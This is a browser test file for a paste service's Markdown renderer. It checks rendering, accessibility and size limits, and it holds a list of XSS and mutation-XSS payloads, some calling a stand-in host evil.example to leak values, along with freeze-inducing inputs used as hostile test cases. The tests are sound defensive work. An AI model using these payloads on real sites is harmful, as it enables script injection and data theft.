import { describe, expect, it } from '@jest/globals';
import type { Page } from 'playwright-core';
import { startCluster } from '../../src/index.ts';
import { isBrowserWanted, useBrowser, violationsOf } from './browser.ts';
import { storePaste } from './store-paste.ts';

const describeInBrowser = isBrowserWanted() ? describe : describe.skip;
const KIB = 1024;

const bed = useBrowser({ start: () => startCluster(), originOf: (cluster) => cluster.http().url });

/** The page of a Markdown paste. */
async function opened(text: string, javaScriptEnabled = true): Promise<Page> {
  const code = await storePaste(bed.cluster, text, { title: 'README.md' });
  return await bed.open(`/${code}`, { javaScriptEnabled });
}

/** Shows the page of another Markdown paste in a page. */
async function show(page: Page, text: string): Promise<void> {
  const code = await storePaste(bed.cluster, text, { title: 'README.md' });
  await page.goto(`${bed.cluster.http().url}/${code}`);
}

const asRendered = (page: Page) => page.getByRole('button', { name: 'Rendered' });

/** The page of a Markdown paste, rendered. */
async function rendered(text: string): Promise<Page> {
  const page = await opened(text);
  await page.locator('article.rendered').waitFor();
  return page;
}

describeInBrowser('a Markdown paste', () => {
  it('is rendered first, and source when the reader asks for it, also with the keyboard alone', async () => {
    const page = await rendered('# Head\n\nSome *text*.\n');
    await page.getByRole('heading', { name: 'Head', level: 2 }).waitFor();
    expect(await page.locator('#content').isVisible()).toBe(false);
    const wrap = page.getByRole('button', { name: 'Wrap' });
    expect(await wrap.isVisible()).toBe(false); // a rendered text always wraps
    expect(await page.locator('article em').innerText()).toBe('text');
    await page.getByRole('button', { name: 'Source' }).press('Enter');
    await page.locator('#content').waitFor();
    expect(await page.locator('#content').innerText()).toContain('# Head');
    expect(await wrap.isVisible()).toBe(true);
    expect(await page.locator('article.rendered').isVisible()).toBe(false);
    await asRendered(page).press('Enter');
    await page.locator('article.rendered').waitFor();
  });

  it('stays source when the reader asks for it before it is rendered', async () => {
    const code = await storePaste(bed.cluster, '# Head\n', { title: 'README.md' });
    const page = await bed.open('/missing123');
    const { promise: asked, resolve: goOn } = Promise.withResolvers<void>();
    await page.route('**/assets/markdown-*.css', async (route) => {
      await asked;
      await route.continue();
    });
    await page.goto(`${bed.cluster.http().url}/${code}`, { waitUntil: 'commit' });
    await page.getByText('The text is being rendered').waitFor();
    await page.getByRole('button', { name: 'Source' }).click();
    goOn();
    await page.locator('article.rendered').waitFor({ state: 'attached' });
    expect(await page.locator('#content').isVisible()).toBe(true);
    expect(await page.locator('article.rendered').isVisible()).toBe(false);
    await asRendered(page).click();
    await page.locator('article.rendered').waitFor();
  });

  it('loads nothing that renders for any other paste', async () => {
    const page = await bed.open('/missing123');
    const requested: string[] = [];
    page.on('request', (request) => requested.push(new URL(request.url()).pathname));
    await page.goto(`${bed.cluster.http().url}/${await storePaste(bed.cluster, '# x\n', { title: 'a.py' })}`);
    await page.waitForFunction(() => CSS.highlights.get('comment')?.size === 1);
    expect(requested.filter((path) => /markdown|views|show/.test(path))).toEqual([]);
  });

  it('has headings in the order of their sizes, lines of 80 characters, and code in colours', async () => {
    const text = `${[1, 2, 3, 4, 5, 6].map((n) => `${'#'.repeat(n)} Head\n`).join('\n')}\n${'word '.repeat(100)}\n\n3. three\n\n\`\`\`js\nconst x = 1;\n\`\`\`\n\n\`\`\`\nplain\n\`\`\`\n`;
    const page = await rendered(text);
    const sizes = await page.evaluate(() =>
      [...document.querySelectorAll('article :is(h2, h3, h4, h5, h6)')].map((heading) =>
        Number.parseFloat(getComputedStyle(heading).fontSize),
      ),
    );
    expect(sizes).toEqual(sizes.toSorted((a, b) => b - a));
    expect(new Set(sizes).size).toBeGreaterThan(3);
    const [paragraph, ch] = await page.evaluate(() => {
      const box = document.querySelector('article p')!;
      const ruler = Object.assign(document.createElement('div'), { textContent: '0'.repeat(80) });
      ruler.style.width = 'max-content';
      box.before(ruler);
      return [box.getBoundingClientRect().width, ruler.getBoundingClientRect().width];
    });
    expect(Math.abs(paragraph - ch)).toBeLessThan(2);
    await page.waitForFunction(() => CSS.highlights.get('keyword')?.size === 1);
    expect(await page.locator('article ol').getAttribute('start')).toBe('3');
    expect(await page.locator('article code').first().getAttribute('start')).toBeNull();
  });

  it('keeps WCAG 2.2 AA and its width when it is rendered', async () => {
    const cells = '| a long heading of a column '.repeat(20);
    const text = `# One\n\n## Two\n\n- [x] task\n\n> quote\n\n\`code\` [link](https://a.example)\n\n${cells}|\n${'|-'.repeat(20)}|\n${cells}|\n\n\`\`\`\n${'x'.repeat(500)}\n\`\`\`\n\n${'y'.repeat(500)}`;
    const code = await storePaste(bed.cluster, text, { syntax: 'markdown' });
    for (const options of [
      { colorScheme: 'light' },
      { colorScheme: 'dark' },
      { viewport: { width: 320, height: 640 } },
    ] as const) {
      const page = await bed.open(`/${code}`, options);
      await page.locator('article table').waitFor();
      expect(await violationsOf(page)).toEqual([]);
      expect(await page.evaluate(() => document.documentElement.scrollWidth - innerWidth)).toBe(0);
    }
  });

  it('of more than 256 KiB is source, with a note', async () => {
    const page = await opened('a line of text\n'.repeat(20_000));
    await page.getByText('Markdown of more than 256 KiB is shown as source.').waitFor();
    expect(await asRendered(page).count()).toBe(0);
  });

  it('is source without JavaScript', async () => {
    const page = await opened('# Head\n', false);
    expect(await page.locator('#content').innerText()).toContain('# Head');
    expect(await asRendered(page).isVisible()).toBe(false);
  });

  it('shows the lines of the address in its source', async () => {
    const page = await rendered('# Head\n\ntext\n');
    await page.evaluate(() => location.assign('#L3'));
    await page.locator('#content').waitFor();
  });

  it('keeps the newline after a folded line', async () => {
    const page = await rendered(`${'x'.repeat(30_000)}\n\nafter\n`);
    expect(await page.locator('article p:not(.warning)').allInnerTexts()).toEqual([
      'x'.repeat(30_000),
      'after',
    ]);
  });
});

/** Elements that only the page itself may have. */
const FOREIGN =
  'article :is(script, style, link, meta, base, iframe, object, embed, form, input, button, select, textarea, svg, math, img, video, audio, template, title, [id]:not([id^=user-content-]), [name], [class]:not(.scroll), [style], [onclick], [onerror], [onload])';

/** Each of these documents is loaded into the same page, because a page of its own takes longer than the document. */
describeInBrowser('a hostile Markdown paste', () => {
  it('runs, loads and changes nothing', async () => {
    const page = await bed.open('/');
    for (const [name, text] of [
      ['a script', '<script>alert(1)</script>'],
      ['a script in a heading', '# <script>alert(1)</script>'],
      [
        'event handlers',
        '<b onclick=alert(1) onmouseover=alert(2)>a</b><details open ontoggle=alert(3)>b</details>',
      ],
      ['an image that fails', '<img src=x onerror=alert(1)>'],
      [
        'an SVG',
        '<svg onload=alert(1)><script>alert(2)</script><a xlink:href="javascript:alert(3)"><text>a</text></a></svg>',
      ],
      ['a sheet of styles', '<style>*{display:none}body{background:url(https://evil.example/)}</style>'],
      ['a style', '<p style="position:fixed;inset:0;background:url(https://evil.example/)">a</p>'],
      [
        'values leaked by selectors',
        '<style>input[value^="a"]{background:url(https://evil.example/a)}</style><link rel=stylesheet href=https://evil.example/>',
      ],
      [
        'a form',
        '<form action=https://evil.example><input name=token><button formaction=javascript:alert(1)>a</button></form>',
      ],
      [
        'ids of the page',
        '<a id=main name=main>a</a><img name=body><div id=content class=content>b</div><p id=paste-status>c</p>',
      ],
      [
        'names that hide properties',
        '<form id=x><input name=attributes><input name=parentNode><img name=removeChild></form>',
      ],
      [
        'a frame',
        '<iframe srcdoc="<script>alert(1)</script>"></iframe><object data=javascript:alert(1)></object><embed src=javascript:alert(1)>',
      ],
      [
        'a new base',
        '<base href=https://evil.example/><meta http-equiv=refresh content="0;url=https://evil.example/">',
      ],
      [
        'media',
        '<video src=https://evil.example/ poster=https://evil.example/ onerror=alert(1)></video><audio src=x onerror=alert(1)>',
      ],
      ['the end of its element', '</article></main><script>alert(1)</script>'],
      ['an open comment', '<!--><img src=x onerror=alert(1)>-->'],
      ['a template', '<template><img src=x onerror=alert(1)></template>'],
      // Markup that changes its meaning when it is written and read again (mutation XSS).
      [
        'mXSS by a style in MathML',
        '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
      ],
      ['mXSS by a style in SVG', '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">'],
      [
        'mXSS by two forms',
        '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
      ],
      ['mXSS by noscript', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'],
      ['mXSS by listing', '<listing>&lt;img onerror="alert(1);//" src=x&gt;<t t></listing>'],
      [
        'mXSS by a title',
        '<svg><title><style><img title="</style><img src=x onerror=alert(1)>"></title></svg>',
      ],
      [
        'mXSS by annotation-xml',
        '<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>',
      ],
      ['mXSS by depth', `${'<div>'.repeat(50)}<svg><style><a id="</style><img src=x onerror=alert(1)>">`],
    ] as const) {
      await show(page, `${text}\n\nthe end\n`);
      await page.locator('article.rendered').waitFor();
      expect([name, await page.locator(FOREIGN).count()]).toEqual([name, 0]);
      expect([name, await page.evaluate(() => document.querySelector('main')?.id)]).toEqual([name, 'main']);
      expect([name, await page.evaluate(() => getComputedStyle(document.body).display)]).toEqual([
        name,
        'flex',
      ]);
      await page.getByRole('button', { name: 'Source' }).click(); // the page still works
      expect([name, await page.locator('#content').innerText()]).toEqual([
        name,
        expect.stringContaining('the end'),
      ]);
    }
  }, 240_000);

  it('does not freeze the tab, and is shown as source', async () => {
    const page = await bed.open('/');
    for (const [name, text] of [
      ['quotes', '>'.repeat(256 * KIB)],
      ['lists', '+ '.repeat(128 * KIB)],
      ['elements in each other', '<div>'.repeat(50_000)],
      ['tables in each other', '<table><tr><td>'.repeat(17_000)],
      ['emphasis without an end', '_a'.repeat(128 * KIB)],
      [
        'a table of billions of cells',
        `${'|a'.repeat(20_000)}\n${'|-'.repeat(20_000)}\n${'|\n'.repeat(60_000)}`,
      ],
      ['a link that is used often', `[a]: http://x/${'y'.repeat(10_000)}\n\n${'[a]'.repeat(80_000)}`],
    ] as const) {
      await show(page, text.slice(0, 256 * KIB));
      await page.getByText('This text is too complex to be rendered.').waitFor();
      expect([name, await page.locator('#content').isVisible()]).toEqual([name, true]);
    }
  }, 240_000);

  it('does not freeze the tab, and is rendered, within the bounds', async () => {
    const page = await bed.open('/');
    for (const [, text] of [
      ['many elements', '*a* '.repeat(49_000)],
      ['elements in each other', `${'<div>'.repeat(60)}${'</div>'.repeat(60)}`.repeat(390)],
      [
        'tables in each other',
        `${'<table><tr><td>'.repeat(60)}x${'</td></tr></table>'.repeat(60)}`.repeat(120),
      ],
      ['elements that nothing ends', '<p><b><i><u><s><em><strong><small><code>'.repeat(7)],
      ['lists within bounds', Array.from({ length: 45 }, (_, i) => `${'  '.repeat(i)}- x`).join('\n')],
    ] as const) {
      await show(page, text);
      await page.locator('article.rendered').waitFor();
      await page.getByRole('button', { name: 'Source' }).click();
      await page.locator('#content').waitFor();
    }
  }, 240_000);
});
